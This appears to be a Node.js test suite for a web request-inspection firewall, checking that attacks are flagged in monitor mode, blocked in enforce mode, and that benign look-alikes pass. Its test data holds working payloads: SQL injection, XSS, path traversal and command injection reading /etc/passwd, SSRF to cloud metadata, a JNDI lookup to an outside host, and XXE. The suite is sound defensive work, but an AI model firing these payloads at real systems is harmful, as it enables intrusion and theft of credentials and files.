// Attacks in single requests, on the runtime: told in monitor, stopped in enforce, wherever in the request they stand;
// and what only looks like one passes.

import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { notOurs, startPair, waitFor } from './harness.mjs';
import { REFERENCE, ask, client, sentProblem } from './scene.mjs';

const JSON_TYPE = [['Content-Type', 'application/json']];
const FORM = [['Content-Type', 'application/x-www-form-urlencoded']];
const post = (body, headers = JSON_TYPE) => ({ method: 'POST', body, headers });

// Each with the class and the place it is told with.
const ATTACKS = [
  ['/api/items?id=1%27%20OR%20%271%27=%271', {}, 'sqli', 'query.id'],
  ['/api/items?id=1%2527%2520UNION%2520SELECT%2520name,pass%2520FROM%2520users--%2520', {}, 'sqli', 'query.id'],
  ['/api/comments', post('{"comment":{"text":"<img src=x onerror=alert(1)>"}}'), 'xss', 'body#/comment/text'],
  ['/api/files?name=..%2f..%2f..%2fetc%2fpasswd', {}, 'path_traversal', 'query.name'],
  ['/api/ping', post('host=127.0.0.1%3Bcat+%2Fetc%2Fpasswd', FORM), 'command_injection', 'form.host'],
  ['/api/fetch', post('{"url":"http://169.254.169.254/latest/meta-data/"}'), 'ssrf', 'body#/url'],
  ['/api/me', { headers: [['X-Api-Version', '${jndi:ldap://198.51.100.1/a}']] }, 'jndi', 'header.x-api-version'],
  ['/api/import', post('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', [['Content-Type', 'application/xml']]), 'xxe', 'body.xml'],
];

// What customers send that has the words, and none of the grammar.
const INNOCENT = [
  ['/api/search?q=O%27Brien+%26+D%27Or', {}],
  ['/api/search?q=select+the+best+from+our+list', {}],
  ['/api/reviews', post('{"text":"I <3 it; a < b && c > d, Tom & Jerry\'s -- 5/5"}')],
  ['/api/login', post('{"user":"ann","password":"p@ss;w\'rd|1 -- #"}')],
  ['/api/import', post('<?xml version="1.0"?><order><note>a &lt; b</note></order>', [['Content-Type', 'application/xml']])],
  ['/api/files?name=reports/2024/../2023/summary.pdf', {}],
];

describe('attacks in monitor mode', { skip: notOurs }, () => {
  let pair;
  before(async () => { pair = await startPair({ vars: { DEV_CLIENT_HEADERS: true, LIMITS: { flush_ms: 20 } } }); });
  after(() => pair?.stop());

  for (const [n, [target, options, attack, where]] of ATTACKS.entries()) {
    test(`${attack} in ${where} passes and is told (${n})`, async () => {
      const ip = `203.0.113.${n + 1}`;
      assert.equal((await client(pair, { ip, cookie: `sid=attacker-${n}` })(target, options)).status, 200);
      const found = async () => (await ask(pair, `sessions?ip=${ip}&attack=${attack}`)).items;
      await waitFor(async () => (await found()).length === 1, { what: `${attack} to be found` });
      const { items: [event] } = await ask(pair, `events?ip=${ip}&attack=${attack}`);
      const finding = event.findings.find(({ detector }) => detector === attack);
      assert.deepEqual([finding.scope, finding.where, finding.action, event.action], ['request', where, 'tag', 'allow']);
      assert.ok(finding.confidence >= 0.8 && finding.risk_added > 0, JSON.stringify(finding));
      assert.match(finding.message, /answered 200: it went through \((\d+ bytes, )?\d+ ms\)$/);
      assert.equal(finding.evidence[0].request, event.id);
      assert.deepEqual((await ask(pair, `events?ip=${ip}&attack!=${attack}`)).items, []);
    });
  }

  test('what only looks like an attack leaves no finding', async () => {
    const ann = client(pair, { ip: '198.51.100.1', cookie: 'sid=ann' });
    for (const [target, options] of INNOCENT) assert.equal((await ann(target, options)).status, 200);
    await waitFor(async () => (await ask(pair, 'events?ip=198.51.100.1')).items.length === INNOCENT.length, { what: 'all events' });
    const { items: [session] } = await ask(pair, 'sessions?ip=198.51.100.1');
    assert.deepEqual([session.attacks, session.state, session.risk], [0, 'clear', 0]);
  });

  test('a finding shows what was found and no secret', async () => {
    const body = JSON.stringify({ token: 'Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MDEyMzQ1Njc4OTA=', note: "x' UNION SELECT password FROM users WHERE '1'='1" });
    await client(pair, { ip: '198.51.100.2', cookie: 'sid=bob' })('/api/notes', post(body));
    await waitFor(async () => (await ask(pair, 'sessions?ip=198.51.100.2&attack=sqli')).items.length === 1, { what: 'the finding' });
    const told = JSON.stringify(await ask(pair, 'findings?detector=sqli')) + JSON.stringify(await ask(pair, 'events?ip=198.51.100.2'));
    assert.ok(!told.includes('Zm9vYmFyYmF6'), told);
  });
});

describe('attacks in enforce mode', { skip: notOurs }, () => {
  let pair;
  before(async () => {
    pair = await startPair({ vars: { DEV_CLIENT_HEADERS: true, MODE: 'enforce', LIMITS: { flush_ms: 20, body_bytes: 4096 },
      DETECTORS: { ssti: 'off', xss: { min_confidence: 0.8, action: 'tag' }, sqli: { at: 'session', for: '10m' } },
      EXCEPTIONS: [{ match: 'POST /api/reports', parameter: '/sql', detector: 'sqli' }] } });
  });
  after(() => pair?.stop());

  for (const [n, [target, options, attack]] of ATTACKS.entries()) {
    test(`${attack} is ${attack === 'xss' ? 'told, as configured' : 'stopped'} (${n})`, async () => {
      const answer = await client(pair, { ip: `203.0.113.${n + 1}`, cookie: `sid=attacker-${n}` })(target, options);
      if (attack === 'xss') return assert.equal(answer.status, 200);
      const told = sentProblem(answer, 403);
      assert.match(told.instance ?? told.reference ?? '', /./);
      assert.ok(!JSON.stringify(told).includes(attack), 'nothing about the rule');
      const [reference] = JSON.stringify(told).match(/[0-7][0-9A-HJKMNP-TV-Z]{25}/);
      assert.match(reference, REFERENCE);
      await waitFor(async () => (await ask(pair, `events?request=${reference}`)).items.length === 1, { what: 'the event' });
      const { items: [event] } = await ask(pair, `events?request=${reference}`);
      assert.deepEqual([event.status, event.action], [403, 'block']);
      assert.match(event.findings.find(({ detector }) => detector === attack).message, /the request was stopped$/);
    });
  }

  test('the origin never sees what was stopped', () => {
    const seen = pair.origin.requests ?? [];
    assert.ok(seen.every(({ target }) => !/UNION|passwd/i.test(decodeURIComponent(target ?? ''))));
  });

  test('only that request is stopped, unless the class acts on sessions', async () => {
    const scanner = client(pair, { ip: '198.51.100.7', cookie: 'sid=once' });
    assert.equal((await scanner('/api/files?name=..%2f..%2f..%2fetc%2fpasswd')).status, 403);
    assert.equal((await scanner('/api/orders/1')).status, 200);
    const injector = client(pair, { ip: '198.51.100.8', cookie: 'sid=always' });
    assert.equal((await injector("/api/items?id=1'%20OR%20'1'='1")).status, 403);
    await waitFor(async () => (await injector('/api/orders/1')).status === 403, { what: 'the block of the session' });
  });

  test('what only looks like an attack passes', async () => {
    const ann = client(pair, { ip: '198.51.100.1', cookie: 'sid=ann' });
    for (const [target, options] of INNOCENT) assert.equal((await ann(target, options)).status, 200, target);
  });

  test('a class that is off and an excepted parameter are not looked at', async () => {
    const bob = client(pair, { ip: '198.51.100.2', cookie: 'sid=bob' });
    assert.equal((await bob('/api/hello?name=%7B%7B7*7%7D%7D')).status, 200);
    const body = JSON.stringify({ sql: "1' UNION SELECT name, pass FROM users-- " });
    assert.equal((await bob('/api/reports', post(body))).status, 200);
    assert.equal((await bob('/api/other', post(body))).status, 403);
  });

  test('a body reaches the origin whole, and what was not looked at is marked', async () => {
    const carol = client(pair, { ip: '198.51.100.3', cookie: 'sid=carol' });
    const long = JSON.stringify({ text: 'word '.repeat(2_000) });
    const answer = await carol('/api/notes', post(long));
    assert.equal(answer.status, 200);
    await waitFor(async () => (await ask(pair, 'events?ip=198.51.100.3')).items.length === 1, { what: 'the event' });
    const { items: [event] } = await ask(pair, 'events?ip=198.51.100.3');
    assert.ok(event.marks.includes('body_cut'), event.marks.join());
  });
});
